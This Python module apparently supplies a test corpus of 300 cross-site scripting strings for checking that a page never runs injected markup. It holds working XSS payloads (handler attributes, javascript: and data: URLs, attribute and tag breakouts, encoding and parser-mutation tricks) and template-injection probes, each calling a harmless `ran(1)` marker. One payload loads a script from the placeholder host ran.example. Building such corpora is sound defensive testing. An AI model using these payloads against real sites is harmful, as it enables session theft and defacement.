"""Three hundred strings that would run a script where text became markup (T13).

Put together from the known classes: elements with handlers, addresses with a scheme, ways out
of attributes, scripts, styles, comments and raw text, odd spellings and encodings, markup that
parsers mend, templates of this and other engines. Each calls `ran()` or asks for an address
below `/ran/`, so that a page can tell that one did.
"""

from __future__ import annotations

from itertools import product

CALL = "ran(1)"
_HANDLED = (
    ("img", "src=x", "onerror"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("details", "open", "ontoggle"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("marquee", "", "onstart"),
    ("iframe", "src=about:blank", "onload"),
    ("object", "data=x", "onerror"),
    ("style", "", "onload"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("a", "href=#x autofocus tabindex=1", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("form", "tabindex=0 autofocus", "onfocusin"),
    ("p", "style=animation-name:x tabindex=1", "onanimationstart"),
)
_SPELT = (
    "<{tag} {more} {on}={call}>",
    '<{tag} {more} {on}="{call}">',
    "<{tag}/{more}/{on}={call}//",
    "<{up} {more} {upon}=`{call}`>",
    "<{tag}\t{more}\n{on}\n=\n'{call}'\n>",
    '"><{tag} {more} {on}={call}>',
    "'><{tag} {more} {on}={call}>",
    "</textarea></title></script></style><{tag} {more} {on}={call}>",
)
_ADDRESSES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    " javascript:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "javascript&colon;{call}",
    "&#106;avascript:{call}",
    "&#x6A;avascript:{call}",
    "\x01javascript:{call}",
    "javascript://%0a{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=",
    "//ran.example/ran/x.js",
)
_CARRIERS = (
    "{address}",
    '<a href="{address}">x</a>',
    '<iframe src="{address}"></iframe>',
    '<form action="{address}"><button>x</button></form>',
    '"><a href="{address}" id="x">x',
    '<meta http-equiv=refresh content="0;url={address}">',
    '<object data="{address}"></object>',
    '<base href="{address}">',
)
_OTHERS = (
    "<script>{call}</script>",
    "<ScRiPt>{call}</sCrIpT>",
    "<script/x>{call}</script\t>",
    "<script>{call}//",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<<script>{call}//<</script>",
    "<script src=/ran/x.js></script>",
    "<script>\\u0072an(1)</script>",
    '"-{call}-"',
    "'-{call}-'",
    "`-{call}-`",
    "${{{call}}}",
    "\\'-{call}//",
    "</script><script>{call}</script>",
    '" onmouseover="{call}" x="',
    "' onfocus='{call}' autofocus='",
    '" autofocus onfocus={call} x="',
    "` onerror={call} `",
    '" style="background:url(/ran/x)" x="',
    "<style>@import '/ran/x.css';</style>",
    "<style>*{{background:url(/ran/y)}}</style>",
    "<!--><img src=x onerror={call}>-->",
    "<!-- --!><img src=x onerror={call}>",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{call}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload={call}/>'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}></style></mglyph></table></mtext></math>",
    "<math href='javascript:{call}'>x</math>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<template><img src=x onerror={call}></template>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<embed src='javascript:{call}'>",
    "<table background='javascript:{call}'>",
    "<isindex action='javascript:{call}' type=submit>",
    "<xss style='x:expression({call})'>",
    "<div style='width:expression({call})'>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "%3Cscript%3E{call}%3C/script%3E",
    "\u003cscript\u003e{call}\u003c/script\u003e",
    "＜script＞{call}＜/script＞",
    "\ufeff<script>{call}</script>",
    "+ADw-script+AD4-{call}+ADw-/script+AD4-",
    "<img src=x\u2028onerror={call}>",
    "<img src=x\x0bonerror={call}>",
    "<img src=x\x0conerror={call}>",
    "{{{{ {call} }}}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{% for x in (1,) %}}<img src=x onerror={call}>{{% endfor %}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "<%= {call} %>",
    "#{{{call}}}",
    "[x](javascript:{call})",
    "<x onclick={call} tabindex=1 autofocus onfocus={call}>",
    "<a href='https://a.example/' ping='/ran/p'>x</a>",
    "<img src=/ran/i.png>",
    "<img srcset='/ran/j.png 1x'>",
    "<input type=image src=/ran/k onerror={call}>",
    "<link rel=prefetch href=/ran/l>",
    "<dialog open onfocus={call} autofocus tabindex=1>",
    "<portal src='javascript:{call}'>",
    "<frameset onload={call}>",
    "<keygen autofocus onfocus={call}>",
)


def corpus() -> list[str]:
    """Return the three hundred strings, all different, in the same order each time."""
    found = [one.replace("{call}", CALL).replace("{{", "{").replace("}}", "}") for one in _OTHERS]
    for (tag, more, on), spelt in product(_HANDLED, _SPELT):
        names = {"tag": tag, "up": tag.upper(), "more": more, "on": on, "upon": on.upper()}
        found.append(spelt.format(call=CALL, **names))
    for carrier, address in product(_CARRIERS, _ADDRESSES):
        found.append(carrier.format(address=address.replace("{call}", CALL)))
    return list(dict.fromkeys(found))[:300]
